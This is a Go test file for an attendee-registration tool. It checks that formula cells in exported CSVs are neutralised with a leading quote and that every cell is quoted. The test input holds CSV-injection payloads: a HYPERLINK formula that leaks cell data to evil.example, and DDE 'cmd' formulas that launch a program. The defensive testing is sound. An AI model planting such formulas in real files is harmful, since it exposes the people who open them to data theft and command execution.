package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// injectionInput is an attendee list typed into a public registration
// form by someone who wants the event operator's spreadsheet to run their
// formulas: every cell a spreadsheet would evaluate, in every column, in
// good rows and in a bad one.
const injectionInput = "first_name,last_name,email,company\n" +
	`"=HYPERLINK(""http://evil.example/?x=""&A1)",Lovelace,ada@example.com,Engine Works` + "\n" +
	`Bob,-5,bob@example.com,+1 555 0100` + "\n" +
	`Cy,Young,cy@example.com,@SUM(1+1)*cmd|' /C calc'!A0` + "\n" +
	"\"\tTab\",Smith,tab@example.com,\"\rReturn\"\n" +
	`Dee,Bad,=cmd|' /C calc'!A0,Acme` + "\n"

// TestResultsNeutraliseFormulas runs zoom-register on injectionInput
// against the demo mock: every cell of results.csv that started with a
// formula character starts with a single quote instead, other cells are
// untouched, and -csv-raw gives back every input cell exactly.
func TestResultsNeutraliseFormulas(t *testing.T) {
	in := writeFile(t, "attendees.csv", injectionInput)
	out := filepath.Join(t.TempDir(), "results.csv")
	code, stdout, stderr := runCmd(t, env(), "-in", in, "-out", out)
	if code != exitProblems { // the row with a formula for an email is refused
		t.Fatalf("exit %d\n%s\n%s", code, stdout, stderr)
	}
	safe := readCSV(t, out)
	raw := filepath.Join(t.TempDir(), "results-raw.csv")
	if code, stdout, stderr := runCmd(t, env(), "-csv-raw", "-in", in, "-out", raw); code != exitProblems {
		t.Fatalf("-csv-raw: exit %d\n%s\n%s", code, stdout, stderr)
	}
	exact := readCSV(t, raw)

	input := readCSV(t, in)
	if len(safe) != len(input) || len(exact) != len(input) {
		t.Fatalf("%d and %d records for %d input records", len(safe), len(exact), len(input))
	}
	neutralised := 0
	for i, rec := range safe {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("results.csv record %d cell %d starts with a formula character: %q", i, j, cell)
			}
			if j >= len(input[i]) {
				continue // a result column
			}
			orig := input[i][j]
			switch {
			case orig != "" && strings.ContainsRune("=+-@\t\r", rune(orig[0])):
				neutralised++
				if cell != "'"+orig {
					t.Errorf("record %d cell %d: %q, want %q", i, j, cell, "'"+orig)
				}
			case cell != orig:
				t.Errorf("record %d cell %d changed: %q, want %q", i, j, cell, orig)
			}
			if exact[i][j] != orig {
				t.Errorf("-csv-raw record %d cell %d: %q, want %q", i, j, exact[i][j], orig)
			}
		}
	}
	if neutralised != 7 {
		t.Errorf("%d cells neutralised, want the input's 7", neutralised)
	}
	h := safe[0]
	status := column(t, h, "status")
	for i, want := range []string{"registered", "registered", "registered", "registered", "invalid"} {
		if got := safe[i+1][status]; got != want {
			t.Errorf("record %d: status %q, want %q (the names themselves go to Zoom unchanged)", i+1, got, want)
		}
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	// OWASP's advice in full: every cell quoted, so that no spreadsheet
	// separator (";" in many locales) can start a cell inside one.
	// (The input has no line break inside a cell, so each line is a record.)
	for _, line := range strings.Split(strings.TrimSuffix(string(data), "\n"), "\n") {
		if !strings.HasPrefix(line, `"`) || !strings.HasSuffix(line, `"`) {
			t.Errorf("record not quoted: %q", line)
		}
	}
}
